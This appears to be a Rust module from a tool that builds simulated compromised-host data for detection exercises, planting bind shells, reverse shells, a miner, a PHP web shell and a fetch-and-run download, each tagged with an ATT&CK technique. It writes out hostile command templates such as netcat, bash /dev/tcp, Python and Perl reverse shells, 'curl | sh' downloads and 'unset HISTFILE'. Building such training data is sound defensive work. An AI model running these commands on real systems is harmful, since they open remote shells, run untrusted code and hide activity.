//! Programs at work: listeners, shells that call home, miners, downloads.

use rand::Rng;
use rand::seq::IndexedRandom;

use super::super::bundled;
use super::super::plan::{Plan, Program};
use super::super::seed::{self, pick, public_address};
use super::super::shape::{self, File};
use super::{PROCESS, Scenario, connected, daemon_name, hiding_place, odd_port};

pub(super) const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "bind-shell",
        title: "A program listens on a port that no other host has open.",
        attack: "T1571",
        subtle: false,
        plant: bind_shell,
    },
    Scenario {
        id: "reverse-shell",
        title: "A shell is connected to an address on the internet.",
        attack: "T1059.004",
        subtle: false,
        plant: reverse_shell,
    },
    Scenario {
        id: "miner",
        title: "A miner works for a pool.",
        attack: "T1496",
        subtle: false,
        plant: miner,
    },
    Scenario {
        id: "web-shell",
        title: "A page of the web server runs commands.",
        attack: "T1505.003",
        subtle: false,
        plant: web_shell,
    },
    Scenario {
        id: "download",
        title: "A script was fetched and run from a root shell.",
        attack: "T1105",
        subtle: false,
        plant: download,
    },
];

fn bind_shell(plan: &mut Plan<'_>) {
    let port = odd_port(&mut plan.rng);
    let name = daemon_name(&mut plan.rng);
    let own = format!("{}/{name}", hiding_place(&mut plan.rng));
    let netcat = format!("nc -lvnp {port} -e /bin/sh");
    let python = format!("python3 -m http.server {port}");
    let (name, path, cmdline) = match plan.rng.random_range(0..4) {
        0 => ("nc", "/usr/bin/nc.openbsd", netcat.as_str()),
        1 => ("python3", "/usr/bin/python3.11", python.as_str()),
        _ => (&name[..name.len().min(15)], own.as_str(), own.as_str()),
    };
    let row = plan.process(&Program::new(name, path, cmdline));
    let listener = shape::listener(&row["pid"], pick(&mut plan.rng, &["0.0.0.0", "::"]), &port, "6");
    let listener = shape::with_owner_and_cmdline(listener, Some(&row));
    plan.plant("processes", row, PROCESS);
    plan.plant("listening_ports", listener, &["port", "address", "process_path"]);
    if path == own {
        let content = format!("{own} {port}");
        plan.plant_file(&File::new(&own, "0755", &content));
    }
}

fn reverse_shell(plan: &mut Plan<'_>) {
    let (address, port) = (public_address(&mut plan.rng), odd_port(&mut plan.rng));
    let bash = format!("bash -c bash -i >& /dev/tcp/{address}/{port} 0>&1");
    let python = format!(
        "python3 -c import socket,pty;s=socket.create_connection((\"{address}\",{port}));pty.spawn(\"sh\")"
    );
    let perl =
        format!("perl -MIO -e $c=new IO::Socket::INET(PeerAddr,\"{address}:{port}\");STDIN->fdopen($c,r)");
    let (name, path, cmdline) = [
        ("bash", "/usr/bin/bash", bash.as_str()),
        ("python3", "/usr/bin/python3.11", python.as_str()),
        ("perl", "/usr/bin/perl", perl.as_str()),
        ("sh", "/usr/bin/dash", "sh -i"),
    ][plan.rng.random_range(0..4)];
    let services = plan.services();
    let Some(parent) = services.choose(&mut plan.rng) else { return };
    let program =
        Program { uid: &parent["uid"], parent: &parent["pid"], ..Program::new(name, path, cmdline) };
    connected(plan, &program, (&address, &port));
}

fn miner(plan: &mut Plan<'_>) {
    let name = daemon_name(&mut plan.rng);
    let path = format!("{}/{name}", hiding_place(&mut plan.rng));
    let (address, port) = (public_address(&mut plan.rng), odd_port(&mut plan.rng));
    let wallet = seed::alnum(&mut plan.rng, 32);
    let cmdline = match plan.rng.random_range(0..3) {
        0 => format!("{path} -o stratum+tcp://{address}:{port} -u {wallet} -k"),
        1 => format!("{path} -c {path}.json"),
        _ => path.clone(),
    };
    let short: String = name.chars().take(15).collect();
    let uid = pick(&mut plan.rng, &["0", "33", "1001"]);
    connected(plan, &Program { uid, ..Program::new(&short, &path, &cmdline) }, (&address, &port));
    plan.plant_file(&File::new(&path, "0755", &format!("{path} {wallet}")));
    if plan.rng.random_bool(0.5) {
        let row = shape::cron(["*/15", "*", "*", "*", "*"], &path, "/var/spool/cron/crontabs/www-data");
        plan.plant("crontab", row, &["command", "path"]);
    }
}

fn web_shell(plan: &mut Plan<'_>) {
    if plan.base.find("processes", "name", "php-fpm8.2").is_none() {
        return;
    }
    let word = seed::letters(&mut plan.rng, 4);
    let directory = pick(&mut plan.rng, &["/var/www/html", "/var/www/html/assets", "/srv/shop/static"]);
    let stem = pick(&mut plan.rng, &["cache", "config", "lib", "img", "style", "health", "class"]);
    let path = format!("{directory}/{stem}-{word}.php");
    let shell = File { path: &path, mode: "0644", uid: "33", gid: "33", content: &path };
    plan.plant_file(&shell);
    let parent = plan.pid_of("php-fpm8.2");
    let asked = pick(&mut plan.rng, &["id", "uname -a", "cat /etc/passwd", "ls -la /srv", "env"]);
    let cmdline = format!("sh -c {asked} 2>&1; echo {word}");
    let row = plan.process(&Program {
        uid: "33",
        parent: &parent,
        unit: "php8.2-fpm.service",
        ..Program::new("sh", "/usr/bin/dash", &cmdline)
    });
    plan.plant("processes", row, PROCESS);
}

fn download(plan: &mut Plan<'_>) {
    let (address, word) = (public_address(&mut plan.rng), seed::letters(&mut plan.rng, 4));
    let command = match plan.rng.random_range(0..4) {
        0 => format!("curl -fsSL http://{address}/{word} | sh"),
        1 => format!("wget -qO- http://{address}/{word}.sh|bash"),
        2 => format!("cd /tmp; wget http://{address}/{word} ; chmod +x {word} ; ./{word}"),
        _ => format!(
            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://{address}/{word}').read())\""
        ),
    };
    plan.plant("shell_history", bundled::history("0", "root", &command), &["username", "command"]);
    plan.add("shell_history", bundled::history("0", "root", "unset HISTFILE"));
}
